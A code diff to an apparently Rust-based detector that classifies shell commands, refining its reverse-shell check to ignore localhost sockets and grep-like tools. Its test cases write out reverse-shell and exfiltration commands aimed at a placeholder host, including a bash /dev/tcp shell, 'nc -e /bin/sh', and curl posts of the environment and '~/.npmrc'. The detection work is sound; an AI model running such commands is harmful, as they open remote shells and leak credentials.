@@ -461,12 +461,10 @@ fn is_reverse_shell(command: &Command) -> bool {
     // asks whether somebody listens.
     let asks = matches!(name, ":" | "true" | "echo" | "printf" | "test")
         || is_shell(name) && command.args.iter().any(|arg| arg == "-c");
-    let network = !asks
-        && command
-            .args
-            .iter()
-            .chain(&command.redirects)
-            .any(|word| word.contains("/dev/tcp/") || word.contains("/dev/udp/"));
+    // To those that search texts it is a pattern.
+    let searches = matches!(name, "grep" | "egrep" | "fgrep" | "rg" | "sed" | "awk" | "gawk" | "jq");
+    let arguments = command.args.iter().filter(|_| !searches);
+    let network = !asks && arguments.chain(&command.redirects).any(|word| is_socket_elsewhere(word));
     let netcat = matches!(name, "nc" | "ncat" | "netcat")
         && command.args.iter().any(|arg| {
             arg.starts_with('-') && !arg.starts_with("--") && arg.contains(['e', 'c'])
@@ -476,6 +474,16 @@ fn is_reverse_shell(command: &Command) -> bool {
     let socat =
         name == "socat" && command.args.iter().any(|arg| arg.to_ascii_lowercase().starts_with("exec:"));
     network || netcat || socat
+}
+
+/// Whether a word names bash's file of a connection to another machine.
+fn is_socket_elsewhere(word: &str) -> bool {
+    let host = ["/dev/tcp/", "/dev/udp/"].iter().find_map(|of| Some(word.split_once(of)?.1));
+    host.is_some_and(|host| {
+        !["127.", "localhost", "::1", "0.0.0.0"]
+            .iter()
+            .any(|own| host.trim_start_matches('"').starts_with(own))
+    })
 }
 
 fn is_miner(command: &Command) -> bool {
@@ -785,6 +793,8 @@ mod tests {
                 &["download", "download-and-run"],
             ),
             ("bash -i >& /dev/tcp/a.invalid/4444 0>&1", &["reverse-shell"]),
+            ("exec 3<>/dev/tcp/127.0.0.1/5432", &[]),
+            ("grep -q 'nc|/dev/tcp/' commands.txt", &[]),
             ("nc -e /bin/sh a.invalid 4444", &["reverse-shell"]),
             ("env | curl -X POST --data-binary @- https://a.invalid", &["download", "exfiltrate"]),
             ("curl -d @$HOME/.npmrc https://a.invalid", &["download", "exfiltrate"]),
